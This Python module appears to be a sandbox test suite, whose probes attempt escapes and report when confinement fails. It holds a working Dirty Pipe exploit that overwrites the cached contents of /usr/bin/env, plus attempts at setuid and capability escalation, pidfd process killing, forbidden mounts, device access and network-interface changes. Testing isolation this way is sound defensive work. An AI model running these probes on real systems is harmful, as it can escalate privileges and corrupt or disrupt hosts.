"""Tricks of two or more steps."""
import ctypes
import fcntl
import os
import signal
import socket
import struct

from attacks import attack, call, connects, first, init_is_harmed, libc, readable, refused, status


@attack
def write_through_a_pipe():
    """Writes into the page cache of a file that may only be read, by a page that a pipe shares with it ("Dirty Pipe")."""
    target = "/usr/bin/env"
    with open(target, "rb") as file:
        before = file.read(64)
        reading, writing = os.pipe()
        for _ in range(16):
            os.write(writing, b"x" * 4096)
        for _ in range(16):
            os.read(reading, 4096)
        moved = libc.splice(file.fileno(), ctypes.byref(ctypes.c_longlong(3)), writing, None, ctypes.c_size_t(1), 0)
        os.write(writing, b"OWNED")
    with open(target, "rb") as file:
        after = file.read(64)
    return None if before == after else "wrote %d bytes into %s: %r" % (moved, target, after)


@attack
def program_of_no_file():
    """A program in memory alone runs where files may not; it must have no more rights than others."""
    try:
        memory = os.memfd_create("program")
    except OSError:
        return None
    with open("/usr/bin/env", "rb") as file:
        os.write(memory, file.read())
    os.fchmod(memory, 0o6777)
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        os.dup2(writing, 1)
        os.execve("/proc/self/fd/%d" % memory, ["env", "grep", "-E", "^(Uid|CapEff|CapPrm|Seccomp|NoNewPrivs):", "/proc/self/status"], {"PATH": "/usr/bin:/bin"})
    os.close(writing)
    seen = os.fdopen(reading).read().split()
    os.waitpid(child, 0)
    uid = str(os.getuid())
    wanted = ["Uid:", uid, uid, uid, uid, "CapPrm:", "0" * 16, "CapEff:", "0" * 16, "NoNewPrivs:", "1", "Seccomp:", "2"]
    return None if seen == wanted or not seen else "it has other rights: %s" % seen


@attack
def own_setuid_program():
    with open("/usr/bin/env", "rb") as file, open("/workspace/env", "wb") as copy:
        copy.write(file.read())
    try:
        os.setxattr("/workspace/env", "security.capability", struct.pack("<5I", 0x02000001, 0xFFFFFFFF, 0, 0xFF, 0))
        return "gave a program capabilities"
    except OSError:
        pass
    os.chmod("/workspace/env", 0o6755)
    try:
        os.chown("/workspace/env", 0, 0)
        return "made a program root's"
    except OSError:
        return None if os.statvfs("/workspace").f_flag & os.ST_NOSUID else "the workspace honours set-user-id"


@attack
def file_that_cannot_be_removed():
    with open("/workspace/stays", "w") as file:
        for flag in (0x10, 0x20):  # immutable, append only
            try:
                fcntl.ioctl(file, 0x40086602, struct.pack("l", flag))
                return "set flag %x" % flag
            except OSError:
                pass
    return None


@attack
def processes_of_others_by_descriptor():
    found = call(434, 1, 0)
    if found < 0:
        return None
    call(424, found, signal.SIGKILL, 0, 0)
    return first(init_is_harmed(), refused(438, found, 0, 0), refused(308, found, 0x20000), refused(440, found, 0, 0, 20, 0), refused(448, found, 0))


@attack
def paths_of_init():
    for name in ("root", "cwd", "exe", "ns/mnt", "ns/net"):
        try:
            return "/proc/1/%s is %s" % (name, os.readlink("/proc/1/" + name))
        except OSError:
            pass
    return None


@attack
def compare_kernel_objects():
    return refused(312, os.getpid(), 1, 0, 0, 0)


@attack
def mounts_by_descriptor():
    return first(
        refused(428, -100, b"/usr", 1 | 0x8000),
        refused(430, b"fuse", 0),
        refused(430, b"proc", 0),
        refused(431, 0, 6, 0, 0, 0),
        refused(432, 0, 0, 0),
        refused(433, -100, b"/workspace", 0),
        refused(442, -100, b"/usr", 0, b"\0" * 32, 32),
        refused(467, -100, b"/usr", 1, 0, 0),
    )


@attack
def secret_memory():
    return refused(447, 0)


@attack
def user_fault_device():
    return first(readable("/dev/userfaultfd"), readable("/dev/fuse"), readable("/dev/net/tun"), readable("/dev/kvm"), readable("/dev/loop-control"), readable("/dev/vhost-net"))


@attack
def real_time_disk():
    return first(refused(251, 1, 0, 1 << 13), refused(314, 0, struct.pack("IIQiIQQQ", 48, 6, 0, 0, 0, 10**7, 10**7, 10**7), 0))


@attack
def old_and_rare_calls():
    numbers = {"uselib": 134, "sysfs": 139, "vhangup": 153, "modify_ldt": 154, "quotactl": 179, "nfsservctl": 180, "lookup_dcookie": 212, "migrate_pages": 256, "move_pages": 279, "quotactl_fd": 443, "process_madvise": 440}
    return first(*[refused(number, 0, 0, 0, 0, 0, 0) and name for name, number in numbers.items()])


@attack
def wake_the_machine():
    """A timer that wakes a sleeping machine."""
    found = call(283, 8, 0)
    return None if found < 0 else "made an alarm"


@attack
def take_the_console():
    controller, terminal = os.openpty()
    try:
        fcntl.ioctl(terminal, 0x541D, 0)
        return "the console's output comes here"
    except OSError:
        return None


@attack
def change_the_network():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            fcntl.ioctl(s, 0x8914, struct.pack("16sh22x", b"lo", 0))
            return "took the interface down"
        except OSError:
            pass
        for level, option, value in ((socket.SOL_SOCKET, 36, 1), (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0"), (0, 41, b"\0" * 40)):
            try:
                s.setsockopt(level, option, value)
                if option != socket.SO_BINDTODEVICE:
                    return "set option %d" % option
            except OSError:
                pass
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        attributes = struct.pack("HH6s2x", 10, 3, b"dummy0") + struct.pack("HHHH5s3x", 16, 18, 9, 1, b"dummy")
        message = struct.pack("BxHiII", 0, 0, 0, 0, 0) + attributes
        s.send(struct.pack("IHHII", 16 + len(message), 16, 0x605, 1, 0) + message)
        answer = s.recv(4096)
        error = struct.unpack_from("i", answer, 16)[0]
        return None if error < 0 else "made an interface"


@attack
def abstract_socket(name):
    return connects(socket.AF_UNIX, "\0" + name)


@attack
def socket_file_of_host(path):
    return connects(socket.AF_UNIX, path)
